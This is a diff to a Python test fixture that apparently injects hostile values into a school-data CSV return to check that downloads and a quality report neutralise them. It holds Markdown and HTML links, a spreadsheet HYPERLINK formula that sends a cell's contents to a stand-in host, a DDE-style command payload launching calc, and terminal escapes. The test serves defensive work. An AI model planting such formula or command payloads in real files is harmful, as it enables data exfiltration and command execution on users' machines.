@@ -80,7 +80,8 @@ def downloads(monkeypatch) -> dict[str, bytes]:
 # terminal escapes that would move the cursor up and erase the steward's screen.
 MARKDOWN_PAYLOAD = "[Resubmit here](https://evil.example/login) ![x](https://evil.example/px.png)"
 HTML_PAYLOAD = (
-    '<img src="https://evil.example/h.png"> <b>bold</b> :red[alert] $x^2$ www.evil.example'
+    '<img src="https://evil.example/h.png"> <b>bold</b> :red[alert] $x^2$ www.evil.example '
+    "x@evil.example :smile: :material/warning: &#x1F600;"
 )
 FORMULA_PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
 COMMAND_PAYLOAD = "+cmd|' /C calc'!A0"
@@ -90,13 +91,13 @@ HOSTILE_FILE_NAME = "=1+1 [here](https:evil.example) thanet_2023-24_t4.csv"
 
 def hostile_return(folder: Path) -> Path:
     """Thanet's 2023-24 term 4 return again, carrying every payload above: the phase of one
-    row is the Markdown link (so it is the reason the submission is held), a measure the
-    HTML, values the terminal escapes (the first failing value, so `stls dq` quotes it), a
-    formula and a command, one district a command, and one value -5 (a negative number,
-    which must stay a number in every download)."""
+    row is the Markdown link and the HTML (so both are in the reason the submission is
+    held), a measure the HTML, values the terminal escapes (the first failing value, so
+    `stls dq` quotes it), a formula and a command, one district a command, and one value -5
+    (a negative number, which must stay a number in every download)."""
     source = DATA_DIR / "returns" / "2023-24" / "term4" / "stls_return_thanet_2023-24_t4.csv"
     rows = list(csv.reader(source.open(encoding="cp1252")))  # as Excel's plain CSV writes
-    rows[1][3] = MARKDOWN_PAYLOAD
+    rows[1][3] = f"{MARKDOWN_PAYLOAD} {HTML_PAYLOAD}"
     rows[2][4] = HTML_PAYLOAD
     rows[3][5] = TERMINAL_PAYLOAD
     rows[4][5] = FORMULA_PAYLOAD
